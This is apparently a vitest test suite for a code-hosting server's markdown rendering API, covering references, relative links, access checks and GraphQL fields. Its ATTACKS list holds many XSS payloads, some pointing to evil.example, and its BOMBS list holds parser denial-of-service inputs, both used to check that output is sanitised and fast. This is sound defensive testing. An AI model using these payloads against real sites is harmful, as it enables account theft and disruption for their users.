// Proves for every case what others show for some, or takes long: the long run has it.
// @module-tag long
import { beforeAll, describe, expect, it } from 'vitest';
import type { ProjectRow } from '#src/domain/projects/find.ts';
import { MAX_RENDERED_LENGTH } from '#src/domain/tracking/markdown/render.ts';
import { commitFile, projectWithCommit } from '../support/ci.ts';
import type { Json } from '../support/http.ts';
import { itEveryNth, LONG } from '../support/long.ts';
import { startWorld, type TestUser } from '../support/world.ts';

const world = await startWorld();
const [owner, stranger] = [await world.user(), await world.user()];
let project: ProjectRow;
/** Of the project. */
let sha: string;

beforeAll(async () => {
  ({ project, sha } = await projectWithCommit(world, owner, { visibility: 'private' }));
});

/** The HTML of a text, as somebody who asks. */
async function rendered(
  text: string,
  { who = owner, ...options }: { who?: TestUser; gfm?: boolean; project?: string | number } = {},
) {
  const { status, body } = await world.api(who).post('/markdown', { text, ...options });
  expect(status).toBe(201);
  return body.html as string;
}

/** The same with all that descriptions can have, in the project. */
const inProject = (text: string, who = owner) => rendered(text, { who, gfm: true, project: project.fullPath });

/** The tags of HTML with all of their attributes. */
const tagsOf = (html: string) => [...html.matchAll(/<[a-z][^>]*>/gi)].map(([tag]) => tag);

describe('POST /markdown', () => {
  it.each([
    ['Hello, world', '<p dir="auto">Hello, world</p>'],
    ['a\nb', '<p dir="auto">a\nb</p>'],
    ['foo', '<p dir="auto">foo</p>'],
    ['a *b* **c** `d`', '<p dir="auto">a <em>b</em> <strong>c</strong> <code>d</code></p>'],
    ['# Title', '<h1 dir="auto">Title</h1>'],
    [
      '> a\n\n1. b\n2. c',
      '<blockquote dir="auto">\n<p dir="auto">a</p>\n</blockquote>\n<ol dir="auto">\n<li>b</li>\n<li>c</li>\n</ol>',
    ],
    ['a  \nb\n\n---', '<p dir="auto">a<br />\nb</p>\n<hr />'],
    ['    <code>', '<pre><code>&lt;code&gt;\n</code></pre>'],
    [
      '[a](https://example.org "t")',
      '<p dir="auto"><a title="t" href="https://example.org" rel="nofollow noreferrer noopener">a</a></p>',
    ],
    ['[a][b]\n\n[b]: /c', '<p dir="auto"><a href="/c">a</a></p>'],
    ['a <b>bold</b> &copy; \\*', '<p dir="auto">a <b>bold</b> © *</p>'],
    [
      '|a|b|\n|-|-:|\n|1|2|',
      '<table dir="auto">\n<thead>\n<tr>\n<th>a</th>\n<th align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align="right">2</td>\n</tr>\n</tbody>\n</table>',
    ],
    ['', ''],
    [' \n ', ''],
  ])('renders CommonMark and tables: %j', async (text, html) => {
    expect(await rendered(text)).toBe(html);
  });

  it('renders no more than CommonMark and tables unless asked', async () => {
    const { iid } = await world.issue(project, owner);
    const text = `#${iid} @${owner.username} :tada: - [ ] a ~~b~~ www.example.org [^1] [c](d)\n\n[^1]: e`;
    const html = await rendered(text, { project: project.id });
    expect(html).toBe(
      `<p dir="auto">#${iid} @${owner.username} :tada: - [ ] a ~~b~~ www.example.org <a href="e">^1</a> <a href="d">c</a></p>`,
    );
  });

  it.each([
    ['~~a~~', '<p dir="auto"><s>a</s></p>'],
    [':tada: :+1: :nothing_of_the_kind: `:tada:`', '<p dir="auto">🎉 👍 :nothing_of_the_kind: <code>:tada:</code></p>'],
    [
      '- [ ] a\n- [x] *b*\n- c',
      '<ul dir="auto" class="task-list">\n<li class="task-list-item"><input type="checkbox" class="task-list-item-checkbox" aria-label="a" disabled /> a</li>\n<li class="task-list-item"><input type="checkbox" class="task-list-item-checkbox" aria-label="b" disabled checked /> <em>b</em></li>\n<li>c</li>\n</ul>',
    ],
    [
      '| | a |\n|-|-|\n| b | c |',
      '<table dir="auto">\n<thead>\n<tr>\n<td></td>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n<td>c</td>\n</tr>\n</tbody>\n</table>',
    ],
    [
      'https://example.org/a. www.example.org (a@example.org)',
      '<p dir="auto"><a href="https://example.org/a" rel="nofollow noreferrer noopener">https://example.org/a</a>. <a href="http://www.example.org" rel="nofollow noreferrer noopener">www.example.org</a> (<a href="mailto:a@example.org">a@example.org</a>)</p>',
    ],
    [
      '```js\nconst a = 1;\n```',
      '<pre><code class="language-js"><span class="hljs-keyword">const</span> a = <span class="hljs-number">1</span>;\n</code></pre>',
    ],
    ['```nothing\n<a>\n```', '<pre><code class="language-nothing">&lt;a&gt;\n</code></pre>'],
    [
      '# A `b`!\n\n# A b\n\n[there](#a-b-1)',
      '<h1 dir="auto" id="user-content-a-b">A <code>b</code>!</h1>\n<h1 dir="auto" id="user-content-a-b-1">A b</h1>\n<p dir="auto"><a href="#user-content-a-b-1">there</a></p>',
    ],
  ])('renders what descriptions can have beyond that: %j', async (text, html) => {
    expect(await rendered(text, { gfm: true })).toBe(html);
  });

  it('renders footnotes, whose links lead to each other', async () => {
    const html = await rendered('a[^n] b[^n]\n\n[^n]: the note', { gfm: true });
    const ids = [...html.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id);
    const targets = [...html.matchAll(/ href="#([^"]+)"/g)].map(([, id]) => id);
    expect(html).toContain('<section class="footnotes">');
    expect(ids).toHaveLength(3);
    expect(new Set(targets)).toEqual(new Set(ids));
  });

  it('asks for a text, and a caller who signed in', async () => {
    const missing = await world.api(owner).post('/markdown', {});
    expect([missing.status, missing.body]).toEqual([400, { error: 'text is missing' }]);
    expect((await world.api().post('/markdown', { text: 'a' })).status).toBe(401);
  });

  it('is 404 for a project that the caller cannot see, or that is not there', async () => {
    for (const [who, name] of [
      [stranger, project.id],
      [stranger, project.fullPath],
      [owner, 'no/where'],
    ] as const) {
      const { status, body } = await world.api(who).post('/markdown', { text: 'a', project: name });
      expect([status, body]).toEqual([404, { message: '404 Project Not Found' }]);
    }
  });

  it('counts as a read: the scope read_api is enough, read_user is not', async () => {
    const [reader, other] = [await world.token(owner, ['read_api']), await world.token(owner, ['read_user'])];
    expect((await world.api(reader).post('/markdown', { text: '*a*' })).body).toEqual({
      html: '<p dir="auto"><em>a</em></p>',
    });
    const { status, body } = await world.api(other).post('/markdown', { text: '*a*' });
    expect([status, body.error]).toEqual([403, 'insufficient_scope']);
  });

  it('is the query `markdown` of GraphQL', async () => {
    const query =
      'query ($text: String!, $project: ProjectRef) { markdown(text: $text, gfm: true, project: $project) { html } }';
    const { body } = await world.graphql(query, { text: 'a :bug:', project: project.fullPath }, owner);
    expect(body).toEqual({ data: { markdown: { html: '<p dir="auto">a 🐛</p>' } } });
  });
});

describe('References', () => {
  it('lead to issues, merge requests, people, labels, milestones and commits', async () => {
    const issue = await world.issue(project, owner, { title: 'A "title"' });
    const request = await world.mergeRequest(project, owner, { iid: 71 });
    const group = await world.group({ owner });
    const plain = await world.label(project, owner, 'bug::one');
    const quoted = await world.label(project, owner, 'two words');
    const milestone = await world.milestone(project, owner, { title: 'v1.0' });
    const at = `${world.url}/${project.fullPath}`;
    const texts = [
      [`#${issue.iid}`, 'issue', `${at}/-/issues/${issue.iid}`, issue.id, 'A &quot;title&quot;'],
      [`${project.fullPath}#${issue.iid}`, 'issue', `${at}/-/issues/${issue.iid}`, issue.id, 'A &quot;title&quot;'],
      [`${project.path}#${issue.iid}`, 'issue', `${at}/-/issues/${issue.iid}`, issue.id, 'A &quot;title&quot;'],
      ['!71', 'merge_request', `${at}/-/merge_requests/71`, request.id, request.title],
      [
        `@${stranger.username}`,
        'user',
        `${world.url}/${stranger.username}`,
        stranger.id,
        `Name of ${stranger.username}`,
      ],
      [`@${group.fullPath}`, 'group', `${world.url}/groups/${group.fullPath}`, group.id, group.name],
      ['~bug::one', 'label', `${at}/-/issues?labels=bug%3A%3Aone`, plain.id, plain.title],
      ['~"two words"', 'label', `${at}/-/issues?labels=two%20words`, quoted.id, quoted.title],
      ['%v1.0', 'milestone', `${at}/-/milestones/${milestone.iid}`, milestone.id, 'v1.0'],
    ] as const;
    for (const [written, type, url, id, title] of texts) {
      const link = `<a class="gfm gfm-${type}" title="${title}" data-reference-type="${type}" data-id="${id}" href="${url}">${written}</a>`;
      expect(await inProject(`See (${written}), or *${written}*.`)).toBe(
        `<p dir="auto">See (${link}), or <em>${link}</em>.</p>`,
      );
    }
    // A whole hash is shown short, and a label that is named by its ID, as in system notes, with its title.
    const byId = `<a class="gfm gfm-label" title="two words" data-reference-type="label" data-id="${quoted.id}" href="${at}/-/issues?labels=two%20words">two words</a>`;
    expect(await inProject(`removed ~${quoted.id} label`)).toBe(`<p dir="auto">removed ${byId} label</p>`);
    for (const written of [sha, sha.slice(0, 8), sha.slice(0, 12)]) {
      const shown = written === sha ? sha.slice(0, 8) : written;
      const link = `<a class="gfm gfm-commit" title="Change" data-reference-type="commit" href="${at}/-/commit/${sha}">${shown}</a>`;
      expect(await inProject(`In ${written}.`)).toBe(`<p dir="auto">In ${link}.</p>`);
    }
  });

  it('lead to the labels and milestones of the groups around, and to no others', async () => {
    const [group, elsewhere] = [await world.group({ owner }), await world.group({ owner })];
    const home = await world.project({ owner, namespaceId: group.id });
    for (const { id } of [group, elsewhere]) {
      const name = id === group.id ? 'around' : 'elsewhere';
      await world.api(owner).post(`/groups/${id}/labels`, { name, color: '#ff0000' });
      await world.api(owner).post(`/groups/${id}/milestones`, { title: name });
    }
    const html = await rendered('~around %around ~elsewhere %elsewhere', { gfm: true, project: home.id });
    expect(html).toMatch(/>~around<\/a> <a [^>]*>%around<\/a> ~elsewhere %elsewhere<\/p>$/);
    expect(html).toContain(`href="${world.url}/groups/${group.fullPath}/-/milestones/1"`);
  });

  it('are found neither in code, links, escapes, words and addresses, nor where nothing is', async () => {
    const { iid } = await world.issue(project, owner);
    const texts = [
      `\`#${iid}\``,
      `\`\`\`\n#${iid}\n\`\`\``,
      `[#${iid}](https://example.org)`,
      `<a href="https://example.org">#${iid}</a>`,
      `\\#${iid}`,
      `a#${iid}b`,
      `https://example.org/#${iid}`,
      `<!-- #${iid} -->`,
      `## 5`,
      '#999999 !999999 @nobody-at-all ~nothing %nothing 0123456789',
    ];
    for (const text of texts) expect(await inProject(text)).not.toContain('gfm');
  });

  it('stay text for whoever may not read what they name, and say nothing of it', async () => {
    const issue = await world.issue(project, owner, { title: 'The secret title' });
    await world.mergeRequest(project, owner, { iid: 72 });
    const open = await world.project({ owner, visibility: 'public' });
    const confidential = await world.issue(open, owner, { title: 'Confidential title', confidential: true });
    const hidden = await world.group({ owner, visibility: 'private' });
    await world.label(project, owner, 'hidden-label');
    const path = project.fullPath;
    const written = [
      `${path}#${issue.iid}`,
      `${path}!72`,
      `#${confidential.iid}`,
      `@${hidden.fullPath}`,
      '~hidden-label',
      `${path}@${sha}`,
      sha,
    ];
    const text = written.join(' and ');
    expect(await rendered(text, { who: stranger, gfm: true, project: open.id })).toBe(`<p dir="auto">${text}</p>`);
    // Whoever may read them gets links, where they are named with their path.
    expect(await rendered(text, { gfm: true, project: open.id })).toMatch(/secret title.*Confidential title/s);
  });

  it('need a path outside of projects, and lead visitors to what is public', async () => {
    const open = await world.project({ owner, visibility: 'public' });
    const { iid } = await world.issue(open, owner, { title: 'Public title' });
    const secret = await world.issue(open, owner, { title: 'Secret title', confidential: true });
    expect(await rendered(`#${iid} ${open.fullPath}#${iid}`, { gfm: true })).toMatch(
      /^<p dir="auto">#\d+ <a .*<\/a><\/p>$/,
    );
    await world
      .api(owner)
      .put(`/projects/${open.id}`, { description: `*See* #${iid} #${secret.iid} @${owner.username}` });
    const query = 'query ($ref: ProjectRef!) { project(ref: $ref) { descriptionHtml } }';
    const { body } = await world.graphql(query, { ref: open.fullPath });
    const html = body.data.project.descriptionHtml;
    expect(html).toMatch(new RegExp(`<em>See</em> <a [^>]*/issues/${iid}"[^>]*>#${iid}</a> #${secret.iid} <a `));
    expect(html).not.toContain('Secret title');
  });

  it('are looked up a hundred at a time of each kind, and twenty commits', LONG, async () => {
    const users = Array.from({ length: 150 }, (_, index) => `@nobody${index}`);
    const html = await inProject([`@${owner.username}`, ...users, `@${stranger.username}`].join(' '));
    expect(html).toContain(`>@${owner.username}</a>`);
    expect(html).not.toContain(`>@${stranger.username}</a>`);
    const shas = Array.from({ length: 25 }, (_, index) => `${index}abcdef0`.padEnd(12, '0'));
    expect(await inProject([...shas, sha].join(' '))).not.toContain('gfm-commit');
  });
});

describe('Relative links', () => {
  it('lead into the project: to its files, its uploads, and places in the text', async () => {
    const at = `${world.url}/${project.fullPath}`;
    const upload = '/uploads/0123456789abcdef0123456789abcdef/a.png';
    const links = {
      'doc/a.md': `${at}/-/blob/master/doc/a.md`,
      '/doc/a.md#there': `${at}/-/blob/master/doc/a.md#there`,
      '../../../b?c=d': `${at}/-/blob/master/b?c=d`,
      [upload]: `${at}${upload}`,
      '#there': '#user-content-there',
    };
    for (const [written, url] of Object.entries(links)) {
      expect(await inProject(`[a](${written})`)).toBe(`<p dir="auto"><a href="${url}">a</a></p>`);
      expect(await inProject(`<a href="${written}">a</a>`)).toBe(`<p dir="auto"><a href="${url}">a</a></p>`);
    }
    expect(await inProject('![a](b.png)')).toBe(`<p dir="auto"><img alt="a" src="${at}/-/raw/master/b.png" /></p>`);
    expect(await inProject(`![a](${upload})`)).toBe(`<p dir="auto"><img alt="a" src="${at}${upload}" /></p>`);
    expect(await rendered('[a](doc/a.md)', { gfm: true })).toBe('<p dir="auto"><a href="doc/a.md">a</a></p>');
  });
});

/** Attempts to get more than text and harmless tags into a page. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x" `onerror=alert(1)>',
  '<b onmouseover="alert(1)" style="background:url(javascript:alert(1))" class="navbar evil">b</b>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java&#115;cript:alert(1)">a</a>',
  '<a href="java&Tab;script:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '[a](javascript:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a]\n\n[a]: javascript:alert(1)',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '<javascript:alert(1)>',
  '[a](//evil.example)',
  '<a href="/\\evil.example">a</a>',
  '<a href="\\\\evil.example">a</a>',
  '<a href="https:evil.example">a</a>',
  '<a href="ws://relative.invalid/a">a</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">a</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>* { display: none }</style>',
  '<style><a title="</style><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><a title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- a --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)> ?>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>b</button></form>',
  '<form><form action="https://evil.example"><input type="image" src="x" formaction="https://evil.example"></form>',
  '<button form="settings" formaction="https://evil.example">b</button>',
  '<input type="text" name="a" autofocus onfocus="alert(1)">',
  '<select><option>a</option></select>',
  '<video src="x" onerror="alert(1)"></video><audio src="x" onerror="alert(1)"></audio>',
  '<details open ontoggle="alert(1)"><summary>a</summary>b</details>',
  '<marquee onstart="alert(1)">a</marquee>',
  '<a id="body" name="cookie" href="#x">a</a>',
  '<img name="getElementById" id="forms">',
  '<div id="user-content-a"><p id="location">a</p></div>',
  '</div></body></html><script>alert(1)</script>',
  '<table><tr><td></table></td></div>',
  '<p title="a&quot; onmouseover=&quot;alert(1)">b</p>',
  '<code class="language-js evil hljs">a</code>',
  '```js" onmouseover="alert(1)\na\n```',
  '```<img src=x onerror=alert(1)>\na\n```',
  '[a](https://example.org "&quot; onmouseover=&quot;alert(1)")',
  'https://example.org/"onmouseover="alert(1)',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: b',
  '# "><img src=x onerror=alert(1)>',
  '|<img src=x onerror=alert(1)>|\n|-|\n|`<script>`|',
  '- [x]<script>alert(1)</script>',
  ':<script>alert(1)</script>:',
];

/** Tags that texts may become. */
const HARMLESS =
  /^<(?:p|h[1-6]|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|pre|code|hr|br|div|section|details|summary|a|img|input|span|em|strong|b|s|sup|text)$/;

/** Whether a link stays on the server that shows it. */
const leadsHere = (link: string) =>
  link.startsWith(world.url) || /^(?:[a-z]+(?!:)\b|#user-content-)[^\\]*$/i.test(link);

/** Whether each attribute of a tag is one that texts may have, with a value that they may have. */
function isHarmless(tag: string): boolean {
  const name = /^<[a-z0-9]+/i.exec(tag)?.[0] ?? '';
  const attributes = [...tag.slice(name.length).matchAll(/\s([^\s=/>]+)(?:="([^"]*)")?/g)];
  return (
    HARMLESS.test(name) &&
    (name !== '<input' || tag.includes('type="checkbox"')) &&
    attributes.every(([, key = '', value = '']) => {
      if (key === 'id') return value.startsWith('user-content-');
      if (key === 'href') return leadsHere(value) || /^(?:https?:\/\/|mailto:)/.test(value);
      if (key === 'src') return leadsHere(value) || /^https?:\/\//.test(value);
      if (key === 'class')
        return value.split(' ').every((word) => /^(?:gfm|footnote|hljs-|language-|task-list)/.test(word));
      if (key === 'type') return value === 'checkbox';
      return [
        'dir',
        'title',
        'alt',
        'rel',
        'align',
        'open',
        'disabled',
        'checked',
        'data-reference-type',
        'data-id',
      ].includes(key);
    })
  );
}

describe('What users write', () => {
  itEveryNth(3, ATTACKS)('stays text and harmless tags: %j', async (text) => {
    for (const html of [await inProject(text), await rendered(text), await inProject(`a ${text}\n\n> ${text}`)]) {
      expect(tagsOf(html).filter((tag) => !isHarmless(tag))).toEqual([]);
      // What is within quotes closes no tag, and nothing stays open.
      expect(html.replace(/<\/?[a-z][a-z0-9]*(?:\s+[a-z-]+(?:="[^"<>]*")?)*\s*\/?>/g, '')).not.toMatch(/[<>]/);
    }
  });

  it('closes the tags that it opens, so that the page around stays whole', async () => {
    const html = await inProject('<div><details><b>a\n\n</section></ul></table>');
    for (const tag of ['div', 'details', 'b']) {
      expect(html.match(new RegExp(`<${tag}>`, 'g'))).toHaveLength(
        html.match(new RegExp(`</${tag}>`, 'g'))?.length ?? 0,
      );
    }
  });
});

const repeated = (part: string, length = MAX_RENDERED_LENGTH) =>
  part.repeat(Math.ceil(length / part.length)).slice(0, length);

/** Texts that parsers have taken long for. */
const BOMBS: [string, string][] = [
  ...[
    '>',
    '[',
    '*',
    '`',
    '*a_ ',
    '<',
    '<a ',
    '[a](',
    '![[',
    '[^a',
    '^[',
    '<!--',
    '<![CDATA[',
    '&a',
    '~~a',
    'http://',
    'a@',
    '**x* ',
  ].map((part): [string, string] => [part, repeated(part)]),
  ...[
    '> - ',
    'www.',
    '~"',
    '%"',
    '@a',
    'a/',
    'a#',
    '#1',
    ':a',
    '[ ] ',
    '- [x] a\n',
    '|',
    '<div>',
    '<b><i>',
    '</b>',
    '<p title="',
    '\\',
  ].map((part): [string, string] => [part, repeated(part)]),
  [
    'runs of backticks',
    Array.from({ length: 500 }, (_, index) => '`'.repeat(index))
      .join(' a')
      .slice(0, MAX_RENDERED_LENGTH),
  ],
  [
    'nested lists',
    Array.from({ length: 350 }, (_, index) => `${'  '.repeat(index)}- a`)
      .join('\n')
      .slice(0, MAX_RENDERED_LENGTH),
  ],
  ['a wide table', `${repeated('|a', 40_000)}\n${repeated('|-', 40_000)}\n${repeated('|b\n', 40_000)}`],
  ['many uses of a long address', `[a]: ${'x'.repeat(60_000)}\n\n${repeated('[a]', 60_000)}`],
  ['many references to a footnote', `${repeated('[^1] ', 100_000)}\n\n[^1]: a`],
  ['alerts', repeated('> [!NOTE]\n\n', 120_000)],
  ['formulas that do not end', repeated('$`a $$b ', 120_000)],
  ['a table of many contents', `[TOC]\n\n${repeated('# a\n', 120_000)}`],
  ['many definitions', Array.from({ length: 9_000 }, (_, index) => `[${index}]: a`).join('\n')],
  ['code of brackets', `\`\`\`json\n${repeated('[{', 100_000)}\n\`\`\``],
  ['code that looks like regular expressions', `\`\`\`js\n${repeated('/a[', 30_000)}\n\`\`\``],
  ['markup in code', `\`\`\`xml\n${repeated('<a b="', 30_000)}\n\`\`\``],
];

describe('A text that is meant to take long', () => {
  itEveryNth(8, BOMBS)('is rendered, or shown as it is written, while others go on: %s', async (_name, text) => {
    let pauses = 0;
    let last = performance.now();
    const timer = setInterval(() => {
      pauses = Math.max(pauses, performance.now() - last);
      last = performance.now();
    }, 5);
    const html = await inProject(text);
    clearInterval(timer);
    expect(html.length).toBeLessThan(2 * 1024 * 1024);
    expect(pauses).toBeLessThan(1_500);
  });

  it('is shown as it is written if it is too long to be tried', async () => {
    const text = `*a* <b>\n${'x'.repeat(MAX_RENDERED_LENGTH)}`;
    expect(await inProject(text)).toBe(`<pre dir="auto">${text.replace('<b>', '&#60;b&#62;')}</pre>`);
  });

  it('is shown as it is written if it would become too large', async () => {
    const text = `[a]: ${'x'.repeat(60_000)}\n\n${'[a]'.repeat(20_000)}`;
    expect(await inProject(text)).toBe(`<pre dir="auto">${text}</pre>`);
  });
});

describe('Records', () => {
  const html = '<p dir="auto"><strong>b</strong></p>';

  it('have their texts as HTML in GraphQL, empty where there is none', async () => {
    const home = await world.project({ owner });
    const issue = await world.issue(home, owner, { title: 'A <b> :bug:', description: '**b**' });
    const bare = await world.issue(home, owner);
    await world.api(owner).post(`/projects/${home.id}/issues/${issue.iid}/notes`, { body: `**b** #${bare.iid}` });
    await world.milestone(home, owner, { description: '**b**' });
    await world
      .api(owner)
      .post(`/projects/${home.id}/labels`, { name: 'a', color: '#ff0000', description: '**b** <i> :bug:' });
    await world.api(owner).put(`/projects/${home.id}`, { description: '**b**' });
    const query = `query ($ref: ProjectRef!, $iid: Int!, $bare: Int!) { project(ref: $ref) {
      descriptionHtml
      issue(iid: $iid) { titleHtml descriptionHtml notes { nodes { system bodyHtml } } }
      bare: issue(iid: $bare) { descriptionHtml }
      milestones { nodes { descriptionHtml } }
      labels { nodes { descriptionHtml } } } }`;
    const { body } = await world.graphql(query, { ref: home.fullPath, iid: issue.iid, bare: bare.iid }, owner);
    const comments = body.data.project.issue.notes.nodes.filter(({ system }: { system: boolean }) => !system);
    expect(comments).toHaveLength(1);
    expect(comments[0].bodyHtml).toMatch(/^<p dir="auto"><strong>b<\/strong> <a class="gfm gfm-issue" /);
    expect(body).toMatchObject({
      data: {
        project: {
          descriptionHtml: html,
          issue: { titleHtml: 'A &lt;b&gt; 🐛', descriptionHtml: html },
          bare: { descriptionHtml: '' },
          milestones: { nodes: [{ descriptionHtml: html }] },
          labels: { nodes: [{ descriptionHtml: '**b** &lt;i&gt; 🐛' }] },
        },
      },
    });
  });

  it('of draft notes and comments on commits are sanitised, too', async () => {
    const home = await world.project({ owner });
    const issue = await world.issue(home, owner);
    const { iid, id } = await world.mergeRequest(home, owner, { iid: 77 });
    await world.db.draftNote.create({
      data: { mergeRequestId: id, authorId: owner.id, body: '**a** <script>x</script>' },
    });
    const { body: commit } = await world.api(owner).post(`/projects/${home.id}/repository/commits`, {
      branch: 'main',
      commit_message: 'First',
      actions: [{ action: 'create', file_path: 'a', content: 'a' }],
    });
    const note = `**b** #${issue.iid} <script>x</script>`;
    await world.api(owner).post(`/projects/${home.id}/repository/commits/${commit.id}/comments`, { note });
    const query = `query ($ref: ProjectRef!, $iid: Int!) { project(ref: $ref) { mergeRequest(iid: $iid) {
      draftNotes { nodes { bodyHtml } } } } }`;
    const drafts = await world.graphql(query, { ref: home.fullPath, iid }, owner);
    const [draft] = drafts.body.data.project.mergeRequest.draftNotes.nodes;
    expect(draft.bodyHtml).toMatch(/^<p dir="auto"><strong>a<\/strong>/);
    const ofCommit = `query ($ref: ProjectRef!, $sha: String!) { project(ref: $ref) { repository { commit(ref: $sha) {
      comments { nodes { noteHtml } } } } } }`;
    const comments = await world.graphql(ofCommit, { ref: home.fullPath, sha: commit.id }, owner);
    const { noteHtml } = comments.body.data.project.repository.commit.comments.nodes[0];
    expect(noteHtml).toMatch(/^<p dir="auto"><strong>b<\/strong> <a class="gfm gfm-issue" /);
    for (const html of [draft.bodyHtml, noteHtml]) expect(html).not.toContain('<script');
  });

  it('have title_html and description_html of a merge request in REST if render_html asks for them', async () => {
    await world.mergeRequest(project, owner, { iid: 73 });
    const values = { title: 'A & b', description: '**b**' };
    await world.db.mergeRequest.updateMany({ where: { targetProjectId: project.id, iid: 73 }, data: values });
    const at = `/projects/${project.id}/merge_requests/73`;
    expect((await world.api(owner).get(at)).body).not.toHaveProperty('title_html');
    const { body } = await world.api(owner).get(`${at}?render_html=true`);
    expect(body).toMatchObject({ title_html: 'A &amp; b', description_html: html });
  });

  it('have description_html of labels in REST, empty where there is no description', async () => {
    const home = await world.project({ owner });
    const at = `/projects/${home.id}/labels`;
    const { body } = await world.api(owner).post(at, { name: 'a', color: '#ff0000', description: 'Broken things' });
    expect(body.description_html).toBe('Broken things');
    await world.api(owner).post(at, { name: 'b', color: '#ff0000' });
    expect((await world.api(owner).get(at)).body).toMatchObject([
      { description_html: 'Broken things' },
      { description_html: '' },
    ]);
  });

  it('have description_html of the labels of issues and merge requests, in as many statements for more of them', async () => {
    const home = await world.project({ owner });
    const issue = await world.issue(home, owner, { labels: ['a'] });
    const description = `**b** of #${issue.iid}`;
    await world.db.label.updateMany({ where: { projectId: home.id }, data: { description } });
    const read = () => world.api(owner).get(`/projects/${home.id}/issues?with_labels_details=true`);
    const few = await world.statements(read);
    for (const labels of [['a'], ['a', 'b'], ['c', 'a']]) await world.issue(home, owner, { labels });
    await world.db.label.updateMany({ where: { projectId: home.id }, data: { description } });
    expect(await world.statements(read)).toHaveLength(few.length);
    const { body } = await read();
    const labels: Json[] = body.flatMap(({ labels }: Json) => labels);
    expect(labels.map(({ name }) => name)).toEqual(['a', 'c', 'a', 'b', 'a', 'a']);
    for (const { description_html } of labels) {
      expect(description_html).toMatch(/^(<strong>b<\/strong>|\*\*b\*\*) of <a class="gfm gfm-issue" /);
    }
    const { iid } = await world.mergeRequest(home, owner, { iid: 5 });
    await world.api(owner).put(`/projects/${home.id}/merge_requests/${iid}`, { labels: 'b' });
    const [one] = (await world.api(owner).get(`/projects/${home.id}/merge_requests?with_labels_details=true`)).body;
    expect(one.labels).toMatchObject([{ name: 'b', description_html: labels[0]?.description_html }]);
  });

  it('take as many statements for many texts as for two, and none for plain words', async () => {
    const home = await world.project({ owner });
    const issue = await world.issue(home, owner);
    await commitFile(world, owner, home);
    const note = (body: string) => world.api(owner).post(`/projects/${home.id}/issues/${issue.iid}/notes`, { body });
    const query = (field: string) =>
      `query ($ref: ProjectRef!, $iid: Int!) { project(ref: $ref) { issue(iid: $iid) { notes { nodes { ${field} } } } } }`;
    const count = async (field: string) =>
      (await world.statements(() => world.graphql(query(field), { ref: home.fullPath, iid: issue.iid }, owner))).length;
    await note('just words');
    const [few, words] = [await count('body'), await count('bodyHtml')];
    expect(words).toBe(few);
    for (let index = 0; index < 2; index++) await note(`#${issue.iid} @${owner.username} ~a %b`);
    const two = await count('bodyHtml');
    expect(two).toBeLessThanOrEqual(few + 4);
    for (let index = 0; index < 8; index++)
      await note(`*${index}* #${issue.iid} !${index} @${stranger.username} ~a${index} %b`);
    expect(await count('bodyHtml')).toBe(two);
  });
});
